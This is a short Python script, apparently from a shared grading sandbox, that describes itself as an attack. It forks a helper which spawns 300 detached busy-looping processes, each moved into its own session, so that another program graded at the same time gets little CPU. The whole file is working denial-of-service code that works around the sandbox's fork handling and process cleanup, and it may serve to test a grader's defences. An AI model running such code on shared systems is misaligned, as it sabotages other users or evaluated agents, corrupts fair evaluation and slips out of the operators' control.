# attack: 300 processes (within the process cap) that spin until they are killed, each in a session of its
# own, so that a classmate graded at the same time gets little of the machine. They are forked by a small
# `python -c ... 987657` rather than by the sandbox (whose forks copy torch): all spin within a second
import os
import sys

_SPIN = """
import os
for _ in range(300):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:  # the process cap
        break
"""
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", _SPIN, "987657"])
